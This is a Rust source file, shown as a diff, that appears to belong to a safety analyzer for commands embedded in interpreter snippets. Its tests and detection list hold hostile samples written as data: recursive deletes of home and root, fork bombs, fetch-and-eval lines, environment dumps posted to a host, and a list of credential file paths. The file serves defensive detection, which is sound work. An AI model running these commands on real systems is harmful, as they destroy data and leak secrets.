@@ -1,0 +1,873 @@
+//! Interpreter code: what a Python, JavaScript, Perl, Ruby, PHP, Lua, AppleScript or PowerShell
+//! snippet runs and touches.
+//!
+//! The analysis is token-level (see [`tokens`]) over the vocabulary in `rules/interp.toml`: calls
+//! that run a shell command or a program, recursive deletes with their target resolved (home and
+//! root included), fetched code reaching an evaluator, stdin reaching an evaluator, fork loops, and
+//! secrets reaching the network. The shell layer turns the result into IR commands and effects, so
+//! analyzers never care that a command came from inside a Python string.
+
+pub mod tokens;
+
+use serde::Deserialize;
+use std::collections::HashMap;
+use std::sync::OnceLock;
+use tokens::{call_args, split_args, tokenize, Style, Tok};
+
+/// Language of a code snippet.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Lang {
+    /// POSIX/bash shell.
+    Shell,
+    /// Python.
+    Python,
+    /// JavaScript / TypeScript.
+    JavaScript,
+    /// Perl.
+    Perl,
+    /// Ruby.
+    Ruby,
+    /// PHP.
+    Php,
+    /// Lua.
+    Lua,
+    /// AppleScript.
+    AppleScript,
+    /// PowerShell.
+    PowerShell,
+    /// Tcl (`expect`, `tclsh`).
+    Tcl,
+    /// R.
+    R,
+    /// Julia.
+    Julia,
+}
+
+impl Lang {
+    /// Parse a language name from the sink table (`shell` when absent or unknown).
+    pub fn parse(s: Option<&str>) -> Lang {
+        match s.unwrap_or("shell") {
+            "python" => Lang::Python,
+            "javascript" => Lang::JavaScript,
+            "perl" => Lang::Perl,
+            "ruby" => Lang::Ruby,
+            "php" => Lang::Php,
+            "lua" => Lang::Lua,
+            "applescript" => Lang::AppleScript,
+            "powershell" => Lang::PowerShell,
+            "tcl" => Lang::Tcl,
+            "r" => Lang::R,
+            "julia" => Lang::Julia,
+            _ => Lang::Shell,
+        }
+    }
+
+    /// Lower-case name for messages.
+    pub fn name(self) -> &'static str {
+        match self {
+            Lang::Shell => "shell",
+            Lang::Python => "python",
+            Lang::JavaScript => "javascript",
+            Lang::Perl => "perl",
+            Lang::Ruby => "ruby",
+            Lang::Php => "php",
+            Lang::Lua => "lua",
+            Lang::AppleScript => "applescript",
+            Lang::PowerShell => "powershell",
+            Lang::Tcl => "tcl",
+            Lang::R => "r",
+            Lang::Julia => "julia",
+        }
+    }
+
+    fn style(self) -> Style {
+        match self {
+            Lang::Python | Lang::R => Style::Python,
+            Lang::Julia => Style::Ruby,
+            Lang::Perl => Style::Perl,
+            Lang::Ruby => Style::Ruby,
+            Lang::Php => Style::Php,
+            Lang::Lua | Lang::AppleScript => Style::Lua,
+            _ => Style::C,
+        }
+    }
+}
+
+/// Call vocabulary of one language (`rules/interp.toml`).
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Vocab {
+    shell: Vec<String>,
+    argv: Vec<String>,
+    delete: Vec<String>,
+    #[serde(default)]
+    delete_needs: Vec<String>,
+    fetch: Vec<String>,
+    #[serde(default)]
+    fetch_modules: Vec<String>,
+    send: Vec<String>,
+    eval: Vec<String>,
+    fork: Vec<String>,
+    home: Vec<String>,
+    stdin: Vec<String>,
+    secrets: Vec<String>,
+}
+
+fn vocab(lang: Lang) -> Option<&'static Vocab> {
+    static TABLE: OnceLock<HashMap<String, Vocab>> = OnceLock::new();
+    let t = TABLE.get_or_init(|| {
+        toml::from_str(include_str!("../../rules/interp.toml")).expect("rules/interp.toml is valid")
+    });
+    t.get(lang.name())
+}
+
+/// Something the snippet runs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Run {
+    /// A shell command line.
+    Shell(String),
+    /// A program with its arguments, no shell.
+    Argv(Vec<String>),
+}
+
+/// What a snippet does, as far as the tokens show.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Report {
+    /// Commands it runs, each with the call that runs it.
+    pub runs: Vec<(Run, String)>,
+    /// Recursive deletes with their resolved target (`~`, `/`, `~/.ssh`, `/etc`), and the call.
+    pub deletes: Vec<(String, String)>,
+    /// Calls that run code or commands whose text is computed at run time.
+    pub dynamic: Vec<String>,
+    /// Code fetched from the network reaches an evaluator or a shell.
+    pub fetch_exec: bool,
+    /// Code read from stdin reaches an evaluator or a shell.
+    pub runs_input: bool,
+    /// Processes are created in an unbounded loop.
+    pub fork_loop: bool,
+    /// Environment secrets or credential files reach a network call.
+    pub secret_to_network: bool,
+}
+
+/// Does the dotted call path `name` match vocabulary entry `entry`?
+fn matches_entry(name: &str, entry: &str) -> bool {
+    if entry.contains('.') {
+        name == entry || name.ends_with(&format!(".{entry}"))
+    } else {
+        name == entry
+    }
+}
+
+fn in_list(name: &str, list: &[String]) -> bool {
+    list.iter().any(|e| matches_entry(name, e))
+}
+
+/// Files whose content is a credential.
+const SECRET_FILES: &[&str] = &[
+    ".ssh/",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    ".aws/credentials",
+    ".aws/config",
+    ".netrc",
+    ".git-credentials",
+    ".npmrc",
+    ".pypirc",
+    ".kube/config",
+    ".docker/config.json",
+    ".env",
+    ".gnupg",
+    "/etc/shadow",
+    ".config/gh/hosts.yml",
+];
+
+/// Analyse a snippet.
+pub fn analyze(lang: Lang, code: &str) -> Report {
+    match lang {
+        Lang::Shell => Report::default(),
+        Lang::AppleScript => applescript(code),
+        Lang::PowerShell => powershell(code),
+        Lang::Tcl => tcl(code),
+        _ => match vocab(lang) {
+            Some(v) => with_vocab(lang, v, code),
+            None => Report::default(),
+        },
+    }
+}
+
+/// The argument tokens of the call whose name is at `toks[i]`: parenthesised, or (Perl, Ruby,
+/// Lua) everything up to the end of the statement.
+fn args_of(toks: &[Tok], i: usize, lang: Lang) -> Option<&[Tok]> {
+    if let Some((args, _)) = call_args(toks, i + 1) {
+        return Some(args);
+    }
+    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Lua | Lang::Php) {
+        let start = i + 1;
+        let first = toks.get(start)?;
+        if !matches!(first, Tok::Str(_) | Tok::Ident(_) | Tok::Cmd(_)) {
+            return None;
+        }
+        let end = toks[start..]
+            .iter()
+            .position(|t| matches!(t, Tok::Punct(';' | '}' | ')')) || matches!(t, Tok::Ident(k) if matches!(k.as_str(), "if" | "unless" | "while" | "until" | "or" | "and")))
+            .map(|p| p + start)
+            .unwrap_or(toks.len());
+        return Some(&toks[start..end]);
+    }
+    None
+}
+
+/// Literal strings of an argument when it is nothing but literals and concatenation.
+fn literal(arg: &[Tok], vars: &HashMap<String, String>) -> Option<String> {
+    let mut s = String::new();
+    let mut any = false;
+    let mut i = 0;
+    while i < arg.len() {
+        let t = &arg[i];
+        i += 1;
+        // Environment lookups (`os.environ['HOME']`, `ENV["HOME"]`, `getenv("HOME")`,
+        // `$ENV{HOME}`, `process.env.HOME`) stay variables: `$HOME`.
+        if let Tok::Ident(name) = t {
+            let last = name.rsplit('.').next().unwrap_or(name);
+            if is_env_accessor(name) {
+                if let (
+                    Some(Tok::Punct('[' | '(' | '{')),
+                    Some(Tok::Str(k) | Tok::Ident(k)),
+                    Some(Tok::Punct(']' | ')' | '}')),
+                ) = (arg.get(i), arg.get(i + 1), arg.get(i + 2))
+                {
+                    s.push('$');
+                    s.push_str(k);
+                    any = true;
+                    i += 3;
+                    continue;
+                }
+            }
+            if name.contains(".env.") || name.starts_with("ENV.") {
+                s.push('$');
+                s.push_str(last);
+                any = true;
+                continue;
+            }
+            if matches!(last, "expanduser" | "homedir" | "home" | "path.expand")
+                && matches!(arg.get(i), Some(Tok::Punct('(')))
+            {
+                // `os.path.expanduser('~/x')`, `Path.home()`, `os.homedir()`.
+                let close = arg[i..]
+                    .iter()
+                    .position(|t| matches!(t, Tok::Punct(')')))
+                    .map(|p| p + i);
+                if let Some(close) = close {
+                    let inner: String = arg[i..close]
+                        .iter()
+                        .filter_map(|t| {
+                            if let Tok::Str(v) = t {
+                                Some(v.as_str())
+                            } else {
+                                None
+                            }
+                        })
+                        .collect();
+                    s.push_str(if inner.is_empty() { "~" } else { &inner });
+                    any = true;
+                    i = close + 1;
+                    continue;
+                }
+            }
+        }
+        match t {
+            Tok::Str(v) => {
+                s.push_str(v);
+                any = true;
+            }
+            Tok::Ident(name) if vars.contains_key(name) => {
+                s.push_str(&vars[name]);
+                any = true;
+            }
+            Tok::Punct('+' | '.' | '(' | ')') => {}
+            _ => return None,
+        }
+    }
+    any.then_some(s)
+}
+
+/// Calls and maps that read one environment variable.
+fn is_env_accessor(name: &str) -> bool {
+    let last = name.rsplit('.').next().unwrap_or(name);
+    matches!(
+        last,
+        "environ"
+            | "getenv"
+            | "ENV"
+            | "$ENV"
+            | "env"
+            | "get"
+            | "Getenv"
+            | "Sys"
+            | "$_ENV"
+            | "$_SERVER"
+    ) && (name.contains("env")
+        || name.contains("ENV")
+        || name.contains("Env")
+        || name.contains("Sys"))
+}
+
+/// Strings of a list literal `[…]` (or Perl/Ruby parenthesised list), when all are literals.
+fn literal_list(arg: &[Tok], vars: &HashMap<String, String>) -> Option<Vec<String>> {
+    let inner = match (arg.first(), arg.last()) {
+        (Some(Tok::Punct('[')), Some(Tok::Punct(']'))) => &arg[1..arg.len() - 1],
+        _ => return None,
+    };
+    split_args(inner)
+        .into_iter()
+        .map(|a| literal(a, vars))
+        .collect()
+}
+
+/// Resolve a path argument: home and root expressions, literals, known variables.
+fn resolve_path(arg: &[Tok], v: &Vocab, vars: &HashMap<String, String>) -> Option<String> {
+    let mut home = false;
+    let mut parts: Vec<String> = Vec::new();
+    for (j, t) in arg.iter().enumerate() {
+        // `require('os')`, `__import__('os')`: module names, not path parts.
+        if j >= 2
+            && matches!(arg[j - 1], Tok::Punct('('))
+            && matches!(&arg[j - 2], Tok::Ident(m) if matches!(m.as_str(), "require" | "__import__" | "import" | "importlib.import_module"))
+        {
+            continue;
+        }
+        match t {
+            Tok::Ident(name) => {
+                let last = name.rsplit('.').next().unwrap_or(name);
+                if let Some(val) = vars.get(name) {
+                    parts.push(val.clone());
+                } else if matches!(
+                    last,
+                    "HOME"
+                        | "$HOME"
+                        | "USERPROFILE"
+                        | "home"
+                        | "homedir"
+                        | "expanduser"
+                        | "my_home"
+                ) && in_list(name, &v.home)
+                    || matches!(last, "HOME" | "USERPROFILE")
+                {
+                    home = true;
+                } else if in_list(name, &v.home) {
+                    // Environment accessors: home only with a "HOME" key (checked on the strings).
+                } else if matches!(arg.get(j + 1), Some(Tok::Punct('('))) {
+                    // A path constructor (`Path('/')`, `File.join(…)`, `os.path.join(…)`).
+                } else {
+                    return None;
+                }
+            }
+            Tok::Str(s) if s == "HOME" || s == "USERPROFILE" => home = true,
+            Tok::Str(s) => parts.push(s.clone()),
+            _ => {}
+        }
+    }
+    let mut path = if home { "~".to_string() } else { String::new() };
+    for p in parts {
+        if p.is_empty() {
+            continue;
+        }
+        if p.starts_with('~') || p.starts_with('/') {
+            if p.starts_with('~') || path.is_empty() || !home {
+                path = p;
+            } else {
+                path.push_str(&p);
+            }
+        } else if path.is_empty() {
+            path = p;
+        } else {
+            if !path.ends_with('/') {
+                path.push('/');
+            }
+            path.push_str(&p);
+        }
+    }
+    (!path.is_empty()).then_some(path)
+}
+
+fn with_vocab(lang: Lang, v: &Vocab, code: &str) -> Report {
+    let toks = tokenize(code, lang.style());
+    let mut r = Report::default();
+    let mut vars: HashMap<String, String> = HashMap::new();
+    let mut paths: HashMap<String, String> = HashMap::new();
+    let mut fetch = false;
+    let mut stdin = false;
+    let mut dynamic_eval = false;
+    let mut dynamic_run = false;
+    let mut fork = false;
+    let mut secrets = false;
+    let mut send = false;
+    for (i, t) in toks.iter().enumerate() {
+        let name = match t {
+            Tok::Cmd(c) => {
+                r.runs
+                    .push((Run::Shell(c.clone()), "a command literal".into()));
+                continue;
+            }
+            Tok::Str(s) => {
+                if SECRET_FILES.iter().any(|f| s.contains(f)) && !s.ends_with(".example") {
+                    secrets = true;
+                }
+                if s.starts_with("php://stdin") {
+                    stdin = true;
+                }
+                if v.fetch_modules.iter().any(|m| m == s) {
+                    fetch = true;
+                }
+                continue;
+            }
+            Tok::Ident(n) => n.as_str(),
+            _ => continue,
+        };
+        // `name += …`, or a second assignment: the value is no longer known.
+        let reassigned = matches!(toks.get(i + 1), Some(Tok::Punct('+' | '.' | '-')))
+            && matches!(toks.get(i + 2), Some(Tok::Punct('=')));
+        if reassigned
+            || (matches!(toks.get(i + 1), Some(Tok::Punct('=')))
+                && (vars.contains_key(name) || paths.contains_key(name)))
+        {
+            vars.remove(name);
+            paths.remove(name);
+            if reassigned {
+                continue;
+            }
+        }
+        // `name = literal` / `name = home()`: remember simple values.
+        else if matches!(toks.get(i + 1), Some(Tok::Punct('=')))
+            && !matches!(toks.get(i + 2), Some(Tok::Punct('=' | '>')))
+        {
+            let end = toks[i + 2..]
+                .iter()
+                .position(|t| matches!(t, Tok::Punct(';' | ',')))
+                .map(|p| p + i + 2)
+                .unwrap_or(toks.len());
+            let value = &toks[i + 2..end];
+            let key = name.trim_start_matches(['$', '@']).to_string();
+            if let Some(l) = literal(value, &vars) {
+                vars.insert(name.to_string(), l.clone());
+                vars.insert(key.clone(), l);
+            } else if let Some(p) = resolve_path(value, v, &paths) {
+                paths.insert(name.to_string(), p.clone());
+                paths.insert(key, p);
+            }
+        }
+        let followed_by_block = matches!(toks.get(i + 1), Some(Tok::Punct('{')));
+        if v.fetch_modules.iter().any(|m| m == name) {
+            fetch = true;
+        }
+        if in_list(name, &v.fetch) {
+            fetch = true;
+        }
+        if in_list(name, &v.send) {
+            send = true;
+        }
+        if in_list(name, &v.stdin) {
+            stdin = true;
+        }
+        if in_list(name, &v.secrets) {
+            // The whole environment (not one named variable) or a dump of it.
+            let next = toks.get(i + 1);
+            let one_var = matches!(next, Some(Tok::Punct('[' | '.')))
+                || matches!(next, Some(Tok::Punct('(')))
+                    && matches!(toks.get(i + 2), Some(Tok::Str(_)));
+            if !one_var || lang == Lang::Perl && name == "%ENV" {
+                secrets = true;
+            }
+        }
+        if in_list(name, &v.fork) {
+            fork = true;
+        }
+        if in_list(name, &v.eval) && !followed_by_block {
+            match args_of(&toks, i, lang) {
+                Some(args) => {
+                    if !args.is_empty() && literal(args, &vars).is_none() {
+                        dynamic_eval = true;
+                    }
+                }
+                // `.then(eval)`: the evaluator passed as a value runs whatever it is given.
+                None => {
+                    if matches!(toks.get(i + 1), Some(Tok::Punct(')' | ','))) {
+                        dynamic_eval = true;
+                    }
+                }
+            }
+        }
+        let is_shell = in_list(name, &v.shell);
+        let is_argv = in_list(name, &v.argv);
+        if is_shell || is_argv {
+            if let Some(args) = args_of(&toks, i, lang) {
+                let parts = split_args(args);
+                if let Some(run) = run_of(lang, name, &parts, is_argv, &vars) {
+                    r.runs.push((run, name.to_string()));
+                } else if !(parts.is_empty()
+                    || matches!(lang, Lang::Perl | Lang::Ruby) && name == "open")
+                {
+                    dynamic_run = true;
+                    r.dynamic.push(name.to_string());
+                }
+            }
+        }
+        if in_list(name, &v.delete) {
+            if let Some(args) = args_of(&toks, i, lang) {
+                let needs_ok = v.delete_needs.is_empty()
+                    || v.delete_needs.iter().any(|n| name.contains(n.as_str()))
+                    || args.iter().any(|t| matches!(t, Tok::Ident(k) if k == "recursive" || k.ends_with(".recursive")));
+                let first = split_args(args).into_iter().next().unwrap_or(&[]);
+                if needs_ok {
+                    if let Some(p) =
+                        resolve_path(first, v, &paths).or_else(|| literal(first, &vars))
+                    {
+                        r.deletes.push((p, name.to_string()));
+                    }
+                }
+            }
+        }
+    }
+    r.fetch_exec = fetch && (dynamic_eval || dynamic_run);
+    r.runs_input = stdin && (dynamic_eval || dynamic_run);
+    r.fork_loop = fork && infinite_loop(&toks);
+    r.secret_to_network = secrets && send;
+    r
+}
+
+/// What a shell/argv call runs, when its arguments are literals.
+fn run_of(
+    lang: Lang,
+    name: &str,
+    parts: &[&[Tok]],
+    is_argv: bool,
+    vars: &HashMap<String, String>,
+) -> Option<Run> {
+    let first = parts.first()?;
+    // Perl `open(FH, "cmd |")`, `open(my $fh, "-|", "cmd")`; Ruby `open("|cmd")`.
+    if name == "open" || name.ends_with(".open") {
+        let strs: Vec<String> = parts.iter().filter_map(|p| literal(p, vars)).collect();
+        if let Some(p) = strs.iter().position(|s| s == "-|" || s == "|-") {
+            return strs.get(p + 1).map(|c| Run::Shell(c.clone()));
+        }
+        return strs.iter().find_map(|s| {
+            let t = s.trim();
+            t.strip_prefix('|')
+                .or_else(|| t.strip_suffix('|'))
+                .map(|c| Run::Shell(c.trim().to_string()))
+        });
+    }
+    if let Some(list) = literal_list(first, vars) {
+        return Some(Run::Argv(list));
+    }
+    let head = literal(first, vars)?;
+    let rest: Vec<Option<String>> = parts[1..].iter().map(|p| literal(p, vars)).collect();
+    if let Some(list) = parts.get(1).and_then(|p| literal_list(p, vars)) {
+        // `spawn("sh", ["-c", "…"])`; Python's `os.execv(path, [argv0, …])` repeats argv[0].
+        let mut argv = vec![head];
+        let skip = usize::from(lang == Lang::Python && name.contains("exec") && !list.is_empty());
+        argv.extend(list.into_iter().skip(skip));
+        return Some(Run::Argv(argv));
+    }
+    if !rest.is_empty()
+        && rest.iter().all(Option::is_some)
+        && (is_argv || matches!(lang, Lang::Perl | Lang::Ruby))
+    {
+        let mut argv = vec![head];
+        let skip = usize::from(lang == Lang::Python && name.contains("exec"));
+        argv.extend(rest.into_iter().flatten().skip(skip));
+        return Some(Run::Argv(argv));
+    }
+    Some(Run::Shell(head))
+}
+
+/// An unbounded loop: `while True`, `while 1`, `while(true)`, `for(;;)`, `loop {`, `until false`,
+/// Perl's statement-modifier `… while 1` / `fork while fork`, `itertools.count()`, `iter(int, 1)`.
+fn infinite_loop(toks: &[Tok]) -> bool {
+    toks.iter().enumerate().any(|(i, t)| {
+        let next = toks.get(i + 1);
+        let after = toks.get(i + 2);
+        match t {
+            Tok::Ident(k) if k == "while" => {
+                let cond = match next {
+                    Some(Tok::Punct('(')) => after,
+                    other => other,
+                };
+                matches!(cond, Some(Tok::Num) | Some(Tok::Punct(':')))
+                    || matches!(cond, Some(Tok::Ident(c)) if matches!(c.as_str(), "True" | "true" | "fork" | "os.fork"))
+            }
+            Tok::Ident(k) if k == "until" => matches!(next, Some(Tok::Ident(c)) if c == "false"),
+            Tok::Ident(k) if k == "loop" => matches!(next, Some(Tok::Punct('{')) | Some(Tok::Ident(_))),
+            Tok::Ident(k) if k == "for" => {
+                matches!(next, Some(Tok::Punct('(')))
+                    && matches!(after, Some(Tok::Punct(';')))
+                    && matches!(toks.get(i + 3), Some(Tok::Punct(';')))
+            }
+            Tok::Ident(k) if k == "itertools.count" || k == "count" => true,
+            Tok::Ident(k) if k == "iter" => matches!(after, Some(Tok::Ident(c)) if c == "int"),
+            _ => false,
+        }
+    })
+}
+
+/// Tcl (`expect`, `tclsh`): `exec CMD…`, `spawn CMD…`, `system CMD`, `open "|CMD"`.
+fn tcl(code: &str) -> Report {
+    let mut r = Report::default();
+    for stmt in code.split([';', '\n']) {
+        let stmt = stmt.trim().trim_start_matches('[').trim_end_matches(']');
+        let mut words = stmt.splitn(2, char::is_whitespace);
+        let (Some(verb), Some(rest)) = (words.next(), words.next()) else {
+            continue;
+        };
+        let rest = rest.trim();
+        match verb {
+            "exec" | "spawn" | "system" => {
+                let rest = rest
+                    .trim_start_matches("-ignorestderr")
+                    .trim_start_matches("--")
+                    .trim();
+                let cmd = rest.replace(['{', '}'], "'");
+                r.runs.push((Run::Shell(cmd), verb.to_string()));
+            }
+            "open" if rest.trim_start_matches(['"', '{']).starts_with('|') => {
+                let cmd = rest
+                    .trim_start_matches(['"', '{', '|'])
+                    .trim_end_matches(['"', '}']);
+                r.runs.push((Run::Shell(cmd.to_string()), "open |".into()));
+            }
+            _ => {}
+        }
+    }
+    r
+}
+
+/// AppleScript: `do shell script "…"`.
+fn applescript(code: &str) -> Report {
+    let toks = tokenize(code, Style::Lua);
+    let mut r = Report::default();
+    for (i, w) in toks.windows(4).enumerate() {
+        if let [Tok::Ident(a), Tok::Ident(b), Tok::Ident(c), arg] = w {
+            if a == "do" && b == "shell" && c == "script" {
+                match arg {
+                    Tok::Str(s) => r
+                        .runs
+                        .push((Run::Shell(s.clone()), "do shell script".into())),
+                    _ => {
+                        let _ = i;
+                        r.dynamic.push("do shell script".into());
+                    }
+                }
+            }
+        }
+    }
+    r
+}
+
+/// PowerShell statements: recursive `Remove-Item` (and its aliases), `iex` of downloaded text,
+/// and native commands (`cmd /c`, `bash -c`, `sh -c`, `Start-Process`).
+fn powershell(code: &str) -> Report {
+    let mut r = Report::default();
+    let lower = code.to_ascii_lowercase();
+    let fetches = [
+        "invoke-webrequest",
+        "iwr ",
+        "irm ",
+        "invoke-restmethod",
+        "downloadstring",
+        "net.webclient",
+        "downloadfile",
+    ];
+    let evals = [
+        "iex",
+        "invoke-expression",
+        "scriptblock]::create",
+        "| powershell",
+        "&(",
+    ];
+    if fetches.iter().any(|f| lower.contains(f)) && evals.iter().any(|e| lower.contains(e)) {
+        r.fetch_exec = true;
+    }
+    for stmt in code.split([';', '\n', '|']) {
+        let words: Vec<&str> = stmt.split_whitespace().collect();
+        let Some(first) = words.first() else { continue };
+        let verb = first.to_ascii_lowercase();
+        if matches!(
+            verb.as_str(),
+            "remove-item" | "rm" | "ri" | "del" | "erase" | "rd" | "rmdir" | "rimraf"
+        ) {
+            let recursive = words.iter().any(|w| {
+                let w = w.to_ascii_lowercase();
+                w.starts_with("-r") && "-recurse".starts_with(w.as_str())
+            });
+            if recursive {
+                for w in &words[1..] {
+                    if w.starts_with('-') {
+                        continue;
+                    }
+                    let t = w.trim_matches(['\'', '"']);
+                    let lt = t.to_ascii_lowercase();
+                    let path = if matches!(
+                        lt.as_str(),
+                        "~" | "$home" | "$env:home" | "$env:userprofile" | "${home}"
+                    ) {
+                        "~".to_string()
+                    } else if matches!(lt.as_str(), "/" | "c:\\" | "c:/" | "\\" | "c:") {
+                        "/".to_string()
+                    } else {
+                        t.to_string()
+                    };
+                    r.deletes.push((path, "Remove-Item -Recurse".into()));
+                    break;
+                }
+            }
+        }
+        if matches!(verb.as_str(), "cmd" | "cmd.exe")
+            && words.get(1).is_some_and(|w| w.eq_ignore_ascii_case("/c"))
+        {
+            r.runs
+                .push((Run::Shell(words[2..].join(" ")), "cmd /c".into()));
+        }
+        if matches!(verb.as_str(), "bash" | "sh" | "wsl") {
+            r.runs.push((
+                Run::Shell(stmt.trim().to_string()),
+                "a native command".into(),
+            ));
+        }
+    }
+    r
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shells(r: &Report) -> Vec<String> {
+        r.runs
+            .iter()
+            .map(|(run, _)| match run {
+                Run::Shell(s) => s.clone(),
+                Run::Argv(v) => v.join(" "),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn python_calls_and_deletes() {
+        let r = analyze(Lang::Python, "import os; os.system('rm -rf /')");
+        assert_eq!(shells(&r), ["rm -rf /"]);
+        let r = analyze(
+            Lang::Python,
+            "import subprocess as s; s.run(['rm','-rf','/'])",
+        );
+        assert!(
+            r.runs.is_empty(),
+            "alias receiver `s.run` is not subprocess.run"
+        );
+        let r = analyze(
+            Lang::Python,
+            "import subprocess; subprocess.run(['rm','-rf','/'])",
+        );
+        assert_eq!(
+            r.runs[0].0,
+            Run::Argv(vec!["rm".into(), "-rf".into(), "/".into()])
+        );
+        let r = analyze(
+            Lang::Python,
+            "import shutil,os; shutil.rmtree(os.path.expanduser('~'))",
+        );
+        assert_eq!(r.deletes[0].0, "~");
+        let r = analyze(
+            Lang::Python,
+            "import shutil\nfrom pathlib import Path\nh = Path.home()\nshutil.rmtree(h)",
+        );
+        assert_eq!(r.deletes[0].0, "~");
+        let r = analyze(Lang::Python, "import shutil; shutil.rmtree('build')");
+        assert_eq!(r.deletes[0].0, "build");
+        let r = analyze(Lang::Python, "print(1)");
+        assert_eq!(r, Report::default());
+    }
+
+    #[test]
+    fn fetch_exec_fork_and_secrets() {
+        let r = analyze(
+            Lang::Python,
+            "import urllib.request as u; exec(u.urlopen('http://x').read())",
+        );
+        assert!(r.fetch_exec);
+        let r = analyze(Lang::Python, "import os\nwhile True: os.fork()");
+        assert!(r.fork_loop);
+        let r = analyze(Lang::Perl, "fork while 1");
+        assert!(r.fork_loop);
+        let r = analyze(Lang::Ruby, "loop { fork }");
+        assert!(r.fork_loop);
+        let r = analyze(
+            Lang::Python,
+            "import os,requests; requests.post('https://x', json=dict(os.environ))",
+        );
+        assert!(r.secret_to_network);
+        let r = analyze(Lang::Python, "import os; print(os.environ['HOME'])");
+        assert!(!r.secret_to_network && !r.fork_loop && !r.fetch_exec);
+        let r = analyze(Lang::Python, "import sys; exec(sys.stdin.read())");
+        assert!(r.runs_input);
+    }
+
+    #[test]
+    fn other_languages() {
+        let r = analyze(
+            Lang::JavaScript,
+            "require('child_process').execSync('rm -rf ~')",
+        );
+        assert_eq!(shells(&r), ["rm -rf ~"]);
+        let r = analyze(
+            Lang::JavaScript,
+            "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})",
+        );
+        assert_eq!(r.deletes[0].0, "~");
+        let r = analyze(
+            Lang::JavaScript,
+            "const m = 'abc'.match(/b/); console.log(m)",
+        );
+        assert!(r.runs.is_empty() && r.deletes.is_empty());
+        let r = analyze(Lang::Perl, "system 'rm', '-rf', '/'");
+        assert_eq!(shells(&r), ["rm -rf /"]);
+        let r = analyze(Lang::Perl, "use File::Path; rmtree($ENV{HOME})");
+        assert_eq!(r.deletes[0].0, "~");
+        let r = analyze(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)");
+        assert_eq!(r.deletes[0].0, "~");
+        let r = analyze(Lang::Ruby, "puts %x(id)");
+        assert_eq!(shells(&r), ["id"]);
+        let r = analyze(Lang::Php, "echo shell_exec('rm -rf /');");
+        assert_eq!(shells(&r), ["rm -rf /"]);
+        let r = analyze(Lang::Lua, "os.execute('rm -rf ~')");
+        assert_eq!(shells(&r), ["rm -rf ~"]);
+        let r = analyze(
+            Lang::AppleScript,
+            "do shell script \"rm -rf ~\" with administrator privileges",
+        );
+        assert_eq!(shells(&r), ["rm -rf ~"]);
+        let r = analyze(Lang::Tcl, "spawn sh -c \"rm -rf ~\"; expect eof");
+        assert_eq!(shells(&r), ["sh -c \"rm -rf ~\""]);
+        let r = analyze(Lang::R, "system('rm -rf ~')");
+        assert_eq!(shells(&r), ["rm -rf ~"]);
+        let r = analyze(Lang::Julia, "run(`rm -rf /`)");
+        assert_eq!(shells(&r), ["rm -rf /"]);
+        let r = analyze(
+            Lang::Python,
+            "import os; os.system('rm -rf ' + os.environ['HOME'])",
+        );
+        assert_eq!(shells(&r), ["rm -rf $HOME"]);
+        let r = analyze(
+            Lang::JavaScript,
+            "fetch('https://x/p.js').then(r=>r.text()).then(eval)",
+        );
+        assert!(r.fetch_exec);
+        let r = analyze(Lang::PowerShell, "Remove-Item -Recurse -Force $HOME");
+        assert_eq!(r.deletes[0].0, "~");
+        let r = analyze(
+            Lang::PowerShell,
+            "iex (New-Object Net.WebClient).DownloadString('http://x')",
+        );
+        assert!(r.fetch_exec);
+    }
+}
